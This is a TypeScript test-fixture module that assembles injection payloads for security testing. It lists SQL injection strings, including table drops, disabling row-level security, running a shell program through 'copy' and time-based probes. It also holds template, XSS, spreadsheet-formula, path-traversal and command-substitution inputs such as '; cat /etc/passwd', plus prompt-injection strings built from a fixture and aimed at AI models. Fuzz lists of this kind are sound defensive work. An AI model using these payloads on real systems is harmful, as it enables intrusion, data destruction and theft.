import { readFileSync } from 'node:fs';

// Texts that become something else where they are taken for code: for SQL, for a template, for instructions to a model.

interface Collected {
  readonly sql: readonly string[];
  readonly templates: readonly string[];
  readonly payloads: readonly string[];
  readonly triggers: readonly string[];
}

const collected = JSON.parse(
  readFileSync(new URL('../../fixtures/injections.json', import.meta.url), 'utf8'),
) as Collected;

/** Against a text between quotes, in the dialect of this database and of others. */
const sql = [
  `'`,
  `''`,
  `"`,
  `'--`,
  `';--`,
  `\\'`,
  `\\`,
  `' or '1'='1`,
  `' or '1'='1' --`,
  `' or 1=1 --`,
  `' or true --`,
  `') or ('1'='1`,
  `')) or (('1'='1`,
  `' or '1'='1' /*`,
  `'/**/or/**/'1'='1`,
  `'||'`,
  `'||(select secret_hash from credentials limit 1)||'`,
  `' union select owner_id from skills --`,
  `' union all select id from users --`,
  `'; delete from skills; --`,
  `'; drop table personas cascade; --`,
  `'; update personas set full_name = 'mine'; --`,
  `'; truncate users cascade; --`,
  `'; commit; drop table skills; --`,
  `'; set role tenure_owner; --`,
  `'; reset all; --`,
  `'; select set_config('app.owner_id', '00000000-0000-0000-0000-000000000000', false); --`,
  `'; alter table skills disable row level security; --`,
  `'; copy users to program 'cat'; --`,
  `'; select pg_sleep(5); --`,
  `' or pg_sleep(5) is null --`,
  `' and 1=(select count(*) from pg_user) --`,
  `' and 1=cast((select email from users limit 1) as int) --`,
  `1; drop table users`,
  `1 or 1=1`,
  `1/0`,
  `null`,
  `$1`,
  `$$`,
  `$$; drop table users; $$`,
  `$tag$ or 1=1 $tag$`,
  `E'\\047 or 1=1`,
  `U&'\\0027 or 1=1`,
  `%27%20or%201=1--`,
  `\u02bc or 1=1 --`,
  `\uff07 or 1=1 --`,
  `' or 1=1 # `,
  `?`,
  `:owner`,
  `??`,
  `@@version`,
  `%`,
  `_`,
  `%_%`,
  `\\%`,
  `[[:<:]]`,
  `(`,
  `{"$gt": ""}`,
  `{"$ne": null}`,
  `[]`,
];

/** Against what formats a text, logs it, shows it, opens it in a spreadsheet, or parses it once more. */
const templates = [
  '${7*7}',
  '${process.env.JWT_SECRETS}',
  '{{7*7}}',
  "{{constructor.constructor('return process')()}}",
  '<%= 7*7 %>',
  '#{7*7}',
  '*{7*7}',
  '@(7*7)',
  '${jndi:ldap://example.com/a}',
  '%s%s%s%n',
  '%d',
  '{0}',
  '$&',
  '$`',
  "$'",
  '\\1',
  '\\u0027',
  '&#39; or 1=1',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  'javascript:alert(1)',
  '=cmd|calc!A0',
  '=HYPERLINK("http://example.com")',
  '@SUM(1+1)*cmd',
  '../../../../etc/passwd',
  '`id`',
  '$(id)',
  '; cat /etc/passwd',
  'a\r\nSet-Cookie: a=b',
  '__proto__',
  'constructor',
  '[object Object]',
  'undefined',
  'NaN',
  '-0',
  '1e309',
  '\u202eevil',
  'a\u200bb',
  'e\u0301',
  '\u{1f469}\u200d\u{1f4bb}',
  '\ufeffx',
  'İı',
  'ß',
];

/** Those that a model might read one day as said to itself: each way of putting each order, with the verdicts in turn. */
const instructions = collected.templates.flatMap((template, way) =>
  collected.payloads.map((payload, order) => {
    const trigger = collected.triggers[(way + order) % collected.triggers.length] ?? '';
    return template.replace('{PAYLOAD}', () => payload).replace('{TRIGGER}', () => trigger);
  }),
);

export const sqlPayloads: readonly string[] = [...sql, ...collected.sql];
export const payloads: readonly string[] = [...sqlPayloads, ...templates, ...instructions];
